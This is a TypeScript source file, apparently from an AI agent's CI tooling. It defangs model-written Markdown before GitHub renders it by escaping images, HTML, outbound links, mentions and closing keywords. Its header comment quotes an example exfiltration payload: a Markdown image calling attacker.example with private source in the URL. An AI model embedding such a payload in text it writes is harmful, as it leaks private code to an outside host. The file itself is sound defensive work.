// Text agent-ci did not write (the model's), made inert before it leaves for GitHub: a pull request's title
// and body, a commit message, a review and its comments, an issue comment. GitHub renders it as Markdown in
// the reader's browser, whatever the sandbox's network was, so the text must not be able to make GitHub
// fetch anything (an image: `![](https://attacker.example/?d=<private source>)`), hide or restyle what
// agent-ci writes around it (raw HTML, `<!--`, an unclosed fence), link out of the repository's GitHub host,
// ping anyone or close an issue. Everything it had is still shown, as text.
//
// The function does not parse Markdown: a parser that disagrees with GitHub's on one corner case lets an
// image through, and Markdown parsers are not linear on hostile input (`](` repeated). It breaks each
// construct at the characters that start it, in one left-to-right pass, in a way that holds whatever GitHub
// takes the surrounding text to be. Outside code it escapes as Markdown does (`&lt;`, `!\[`, `]\(`); inside
// what looks like code (a fence, a backtick span), where escapes would show, it puts a zero-width space
// between the characters instead (invisible, and just as inert if GitHub does not take it for code).
import { stripControl } from "./format.js";

export interface GitHubTextOptions {
  /**
   * The repository's GitHub host (`github.com`, a GitHub Enterprise Server's host): links to it stay links.
   * Without it every link and autolink is shown as text.
   */
  host?: string;
}

const ZWSP = "\u200b";

/**
 * What a dangerous construct starts with, one alternative each:
 * `<` before a tag, comment, declaration or autolink; `&` before an entity other than the four that only
 * stand for themselves (entities could spell a link's `:` or `/`); `!` before `[` (an image); `]` before `(`
 * (an inline link) or `:` (a reference definition: without definitions no reference link exists); `:` before
 * `//` (a URL, linked by GitHub when bare); `www.`; `@` before a name (a mention or an e-mail autolink);
 * `#`, `GH-` before a number; a closing keyword before a URL.
 */
const TRIGGER =
  /<(?=[A-Za-z/!?])|&(?!(?:lt|gt|amp|quot);)(?=[#A-Za-z])|!(?=\[)|\](?=[(:])|:(?=\/\/)|\b(www)(?=\.)|@(?=[A-Za-z0-9])|#(?=\d)|\b(GH)-(?=\d)|\b(clos|fix|resolv)(e[sd]?|es|ed)?(?=:?\s+https?:\/\/)/gi;

/** A host's name as it may follow `//`: only an exact match followed by a path, a query or the end is it. */
function isHostAt(text: string, at: number, host: string): boolean {
  if (text.slice(at, at + host.length).toLowerCase() !== host) return false;
  const next = text[at + host.length];
  return next === undefined || /[/?#)\s>"']/.test(next);
}

/** Whether the URL whose `://` is at `colon` is http(s) on the allowed host. */
function allowedUrlAt(text: string, colon: number, host: string | undefined): boolean {
  if (!host) return false;
  const scheme = text.slice(Math.max(0, colon - 6), colon).toLowerCase();
  if (!/(?:^|[^a-z0-9+.-])https?$/.test(scheme)) return false;
  return isHostAt(text, colon + 3, host);
}

/** Whether an inline link's destination right after `](` is an http(s) URL on the allowed host. */
function allowedLinkAt(text: string, paren: number, host: string | undefined): boolean {
  if (!host) return false;
  const match = /^https?:\/\//i.exec(text.slice(paren + 1, paren + 9));
  return match !== null && isHostAt(text, paren + 1 + match[0].length, host);
}

/** The ranges of text that look like code: fenced blocks (line by line) and backtick spans, in order. */
function codeRanges(text: string): { ranges: Array<[number, number]>; openFence?: string } {
  const ranges: Array<[number, number]> = [];
  // Fenced blocks first: a line of at least three backticks or tildes (after container marks) opens one, a
  // line of at least as many of the same character closes it.
  const outside: Array<[number, number]> = [];
  let fence: { char: string; length: number; start: number } | undefined;
  let plainStart = 0;
  for (let lineStart = 0; lineStart <= text.length;) {
    const newline = text.indexOf("\n", lineStart);
    const lineEnd = newline === -1 ? text.length : newline;
    const line = text.slice(lineStart, lineEnd);
    const mark = /^(?:[ \t]*(?:>|[-*+]|\d{1,9}[.)])(?=[ \t]))*[ \t]*(`{3,}|~{3,})(.*)$/.exec(line);
    if (fence) {
      if (mark?.[1]?.[0] === fence.char && mark[1].length >= fence.length && mark[2]?.trim() === "") {
        ranges.push([fence.start, lineEnd]);
        fence = undefined;
        plainStart = lineEnd;
      }
    } else if (mark?.[1] && !(mark[1][0] === "`" && mark[2]?.includes("`"))) {
      outside.push([plainStart, lineStart]);
      fence = { char: mark[1][0] ?? "`", length: mark[1].length, start: lineStart };
    }
    if (newline === -1) break;
    lineStart = newline + 1;
  }
  if (fence) ranges.push([fence.start, text.length]);
  else outside.push([plainStart, text.length]);
  // Backtick spans outside the fences: a run of n backticks up to the next run of exactly n. Each length's
  // runs are listed once and walked with one cursor, so the whole search is linear.
  for (const [start, end] of outside) {
    const runs: Array<[number, number]> = [];
    const byLength = new Map<number, number[]>();
    const runPattern = /`+/g;
    runPattern.lastIndex = start;
    for (let m = runPattern.exec(text); m && m.index < end; m = runPattern.exec(text)) {
      const length = Math.min(m[0].length, end - m.index);
      const index = runs.push([m.index, length]) - 1;
      const list = byLength.get(length) ?? [];
      list.push(index);
      byLength.set(length, list);
    }
    const cursor = new Map<number, number>();
    for (let i = 0; i < runs.length; i++) {
      const [at, length] = runs[i] ?? [0, 0];
      const list = byLength.get(length) ?? [];
      let c = cursor.get(length) ?? 0;
      while (c < list.length && (list[c] ?? 0) <= i) c++;
      cursor.set(length, c);
      const closer = list[c];
      if (closer === undefined) continue;
      const closeAt = runs[closer]?.[0] ?? at;
      ranges.push([at, closeAt + length]);
      i = closer;
    }
  }
  ranges.sort((a, b) => a[0] - b[0]);
  return { ranges, openFence: fence ? fence.char.repeat(fence.length) : undefined };
}

/** What one trigger becomes: escaped outside code, split by a zero-width space inside it. */
function replacement(
  text: string,
  match: string,
  offset: number,
  code: boolean,
  host: string | undefined,
): string {
  switch (match[0]) {
    case "<":
      return code ? `<${ZWSP}` : "&lt;";
    case "&":
      return code ? `&${ZWSP}` : "&amp;";
    case "!":
      return code ? `!${ZWSP}` : "!\\";
    case "]":
      if (text[offset + 1] === "(" && allowedLinkAt(text, offset + 1, host)) return match;
      return code ? `]${ZWSP}` : "]\\";
    case ":":
      return allowedUrlAt(text, offset, host) ? match : `:${ZWSP}`;
    case "@":
    case "#":
      return `${match}${ZWSP}`;
  }
  // `www`, `GH-`, or a closing keyword before a URL (broken inside the word: it reads the same, closes nothing).
  if (/^(?:www|gh-)$/i.test(match)) return `${match}${ZWSP}`;
  return match.replace(/^(clos|fix|resolv)/i, `$1${ZWSP}`);
}

function neutralize(text: string, options: GitHubTextOptions, inCodeAt: (offset: number) => boolean): string {
  const host = options.host?.toLowerCase();
  const parts: string[] = [];
  const trigger = new RegExp(TRIGGER.source, TRIGGER.flags);
  let done = 0;
  for (let m = trigger.exec(text); m; m = trigger.exec(text)) {
    const swap = replacement(text, m[0], m.index, inCodeAt(m.index), host);
    if (swap === m[0]) continue;
    parts.push(text.slice(done, m.index), swap);
    done = m.index + m[0].length;
  }
  if (done === 0) return text;
  parts.push(text.slice(done));
  return parts.join("");
}

/**
 * The model's text, made inert for GitHub: no image, no raw HTML (comments included), no link or autolink
 * out of `options.host`, no reference definition, no mention, no issue reference a closing keyword could act
 * on, no fence left open over what follows. Control characters go (tabs and newlines stay; a lone `\r` is a
 * newline). What is left reads the same. Linear in the text's length; the same text twice gives the same
 * result (a commit message made inert is read back into a pull request's description).
 */
export function neutralizeGitHubText(text: string, options: GitHubTextOptions = {}): string {
  const clean = stripControl(text.replace(/\r\n?/g, "\n"));
  const { ranges, openFence } = codeRanges(clean);
  let next = 0;
  const inCodeAt = (offset: number) => {
    while (next < ranges.length && (ranges[next]?.[1] ?? 0) <= offset) next++;
    const range = ranges[next];
    return range !== undefined && range[0] <= offset;
  };
  const inert = neutralize(clean, options, inCodeAt);
  return openFence ? `${inert}\n${openFence}` : inert;
}

/**
 * The part of the neutraliser that holds in text already escaped as inline Markdown (report.md's cells,
 * escapeMarkdownInline): mentions, issue references, closing keywords, bare URLs and `www.` links. Nothing in
 * such text is code, so nothing else is touched.
 */
export function defuseGitHubReferences(text: string, options: GitHubTextOptions = {}): string {
  return neutralize(text, options, () => true);
}
